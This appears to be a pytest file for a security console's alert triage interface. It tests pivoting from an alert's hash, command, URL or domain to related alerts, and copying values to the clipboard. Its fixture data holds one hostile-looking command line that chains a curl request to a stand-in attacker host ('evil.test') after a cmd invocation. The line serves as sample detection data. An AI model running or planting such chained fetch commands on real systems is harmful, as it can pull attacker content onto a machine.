"""From an alert by one of its values to every alert that speaks of it, and back; and copying a value."""

import base64
import json
from contextlib import closing

import pytest

from console.app import Console
from screens.dialogs.alert_json import AlertJson
from screens.dialogs.choose_value import ChooseValue
from screens.frame import KeyLine, TitleLine
from screens.widgets.json_view import JsonView
from store import ingest, triage
from store.database import Store
from store.queries.alerts import by_detect_id
from store.triage import Decision, Selection
from tests.helpers.screens import NOW, detection, fill, oid_of, still, text_of, until

HASH = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
BOTH_QUOTES = "cmd /c \"echo 'x'\" & curl http://evil.test/a"


def shared(number: int, oid: str) -> bytes:
    raw = json.loads(detection(600 + number, oid, at=NOW - 1000 - number * 1000))
    raw["detect"]["event"] |= {"HASH": HASH, "COMMAND_LINE": BOTH_QUOTES}
    return json.dumps(raw).encode()


@pytest.fixture
def url(tmp_path):
    """Sixty alerts, and four at three customers that share a hash; one of these is closed."""
    made = f"sqlite:///{tmp_path / 'store.db'}"
    with closing(Store(made)) as store:
        fill(store, extra=[(oid_of(n % 3), shared(n, oid_of(n % 3))) for n in range(4)])
        with store.writing() as c:
            closed = by_detect_id(c, "1f2e3d4c-5b6a-4788-9990-000000000601")[0].row.id
            decision = Decision("close", "mk", "seen", classification=2)
            action = triage.begin(c, decision, Selection((closed,)), now=NOW)
            while triage.proceed(c, action, actor="mk", now=NOW):
                pass
    return made


@pytest.fixture
def console(url, tmp_path):
    return Console(
        open_store=lambda: Store(url), environment="prod", clock=lambda: NOW, operator="lee",
        copies=tmp_path / "copied.txt",
    )  # fmt: skip


async def opened(pilot, kind: str = ""):
    """The dialog, with the cursor on the first value of a kind."""
    app = pilot.app
    await until(pilot, lambda: getattr(app.screen, "look", "") == "full")
    app.screen.filter_by("rule:encoded since:1m")
    await until(pilot, lambda: "/rule:encoded" in app.screen.query_one(TitleLine).text)
    await still(pilot)
    await pilot.press("p")
    await until(pilot, lambda: isinstance(app.screen, ChooseValue))
    await still(pilot)
    while kind and app.screen._table.current.kind != kind:
        before = app.screen._table.current
        await pilot.press("j")
        assert app.screen._table.current != before, f"no {kind} is offered"


def title(app) -> str:
    return app.screen.query_one(TitleLine).text


async def test_the_values_of_an_alert_are_offered_with_where_they_were_seen(console):
    async with console.run_test(size=(120, 40)) as pilot:
        await opened(pilot)
        shown = text_of(console)
        assert "at 3 of 5 organizations" in shown
        assert "last false positive" in shown
        assert "hash" in shown
        assert "curl http://evil.test" in shown
        await pilot.press("escape")
        await until(pilot, lambda: not isinstance(console.screen, ChooseValue))
        assert "rule:encoded" in title(console)


@pytest.mark.parametrize("kind", ["hash", "command", "url", "domain"])
async def test_a_value_leads_to_every_alert_with_it_open_and_closed_and_back(console, kind):
    async with console.run_test(size=(160, 48)) as pilot:
        await opened(pilot, kind)
        await pilot.press("enter")
        await until(pilot, lambda: "pivot:" in title(console))
        await until(pilot, lambda: console.screen.look == "full")
        await still(pilot)
        await until(pilot, lambda: "4 alerts, 3 open" in title(console))
        await pilot.press("escape")
        await until(pilot, lambda: "/rule:encoded" in title(console))


async def test_a_value_of_the_document_leads_there_too(console):
    async with console.run_test(size=(160, 48)) as pilot:
        await until(pilot, lambda: getattr(console.screen, "look", "") == "full")
        console.screen.filter_by("rule:encoded since:1m")
        await until(pilot, lambda: "/rule:encoded" in title(console))
        await still(pilot)
        await pilot.press("J")
        await until(pilot, lambda: isinstance(console.screen, AlertJson) and '"HASH"' in text_of(console))
        await pilot.press("p")  # on a bracket there is nothing to look for
        assert isinstance(console.screen, AlertJson)
        table = console.screen.query_one(JsonView).table
        while '"HASH"' not in table.current.text:
            await pilot.press("j")
        await pilot.press("p")
        await until(pilot, lambda: "pivot:" in getattr(console.screen, "filter_line", ""))
        await until(pilot, lambda: "4 alerts, 3 open" in title(console))


async def test_a_value_typed_by_hand_leads_there_from_any_view(console):
    async with console.run_test(size=(160, 48)) as pilot:
        await until(pilot, lambda: getattr(console.screen, "look", "") == "full")
        await pilot.press("2")
        await until(pilot, lambda: console.current_mode == "organizations")
        await pilot.press(":", *f"pivot {HASH.upper()}", "enter")
        await until(pilot, lambda: console.current_mode == "alerts")
        await until(pilot, lambda: "4 alerts, 3 open" in title(console))


async def test_y_copies_the_value_and_says_so(console, tmp_path, monkeypatch):
    monkeypatch.delenv("TMUX", raising=False)
    async with console.run_test(size=(160, 48)) as pilot:
        written: list[str] = []
        await opened(pilot, "hash")
        monkeypatch.setattr(console._driver, "write", written.append)
        await pilot.press("y")
        await until(pilot, lambda: (tmp_path / "copied.txt").exists())
        beneath = next(screen for screen in console.screen_stack if screen.id == "alerts")
        await until(pilot, lambda: "Sent to the terminal's clipboard, 64" in beneath.query_one(KeyLine).text)
        assert isinstance(console.screen, ChooseValue)
        assert (tmp_path / "copied.txt").read_text() == HASH + "\n"
        assert f"\x1b]52;c;{base64.b64encode(HASH.encode()).decode()}\a" in written


async def test_an_alert_that_went_meanwhile_is_said(console):
    from screens.requests import OpenPivot

    async with console.run_test(size=(120, 40)) as pilot:
        await until(pilot, lambda: getattr(console.screen, "look", "") == "full")
        console.screen.post_message(OpenPivot(9999))
        await until(pilot, lambda: "no longer in the store" in console.screen.query_one(KeyLine).text)


async def test_an_alert_that_holds_no_value_says_how_to_go_on(console, url):
    async with console.run_test(size=(160, 40)) as pilot:
        await until(pilot, lambda: getattr(console.screen, "look", "") == "full")
        with console.store.writing() as c:
            raw = b'{"cat": "nothing at all", "detect_id": "empty", "gen_time": 1}'
            ingest.put_detections(c, oid_of(0), [ingest.detection_from(raw, oid_of(0))])
            found = c.exec_driver_sql("SELECT max(id) FROM detection").scalar_one()
        from screens.requests import OpenPivot

        console.screen.post_message(OpenPivot(found))
        await until(
            pilot, lambda: ":pivot VALUE looks for any other" in console.screen.query_one(KeyLine).text
        )
